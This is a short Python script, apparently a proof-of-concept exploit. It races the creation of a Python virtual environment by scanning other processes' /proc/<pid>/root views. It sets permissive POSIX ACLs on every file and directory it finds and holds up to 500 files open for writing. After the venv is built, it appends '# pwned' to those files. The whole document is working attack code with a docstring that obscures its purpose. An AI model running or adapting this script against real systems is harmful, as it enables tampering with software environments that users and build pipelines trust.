"""Waits for a venv that is being made, through the processes that make it, and keeps what it finds there: opens files
for writing, gives itself access by lists, and writes into what it holds when the venv is in place: venv.py PATH SECONDS"""
import glob
import os
import struct
import sys
import time

path, end = sys.argv[1], time.monotonic() + float(sys.argv[2])
me = os.getuid()
ENTRY = struct.Struct("<HHI")
ACCESS = struct.pack("<I", 2) + b"".join(
    ENTRY.pack(*entry)
    for entry in [(1, 7, 0xFFFFFFFF), (2, 7, me), (4, 5, 0xFFFFFFFF), (16, 7, 0xFFFFFFFF), (32, 5, 0xFFFFFFFF)]
)
held, seen = [], set()
while time.monotonic() < end:
    for process in glob.glob("/proc/[0-9]*"):
        top = process + "/root" + path
        try:
            if os.stat(process).st_uid != me or os.stat(top).st_uid != me:
                continue
        except OSError:
            continue
        for place, directories, files in os.walk(top):
            for name in directories + files:
                node = os.path.join(place, name)
                inside = node.split("/root", 1)[1]
                if inside in seen or os.path.islink(node):
                    continue
                seen.add(inside)
                try:
                    os.setxattr(node, "system.posix_acl_access", ACCESS)
                    if os.path.isdir(node):
                        os.setxattr(node, "system.posix_acl_default", ACCESS)
                    elif len(held) < 500:
                        held.append(os.open(node, os.O_WRONLY | os.O_APPEND))
                except OSError:
                    pass
    time.sleep(0.01)
for node in held:
    try:
        os.write(node, b"\n# pwned\n")
    except OSError:
        pass
print(len(held), len(seen))
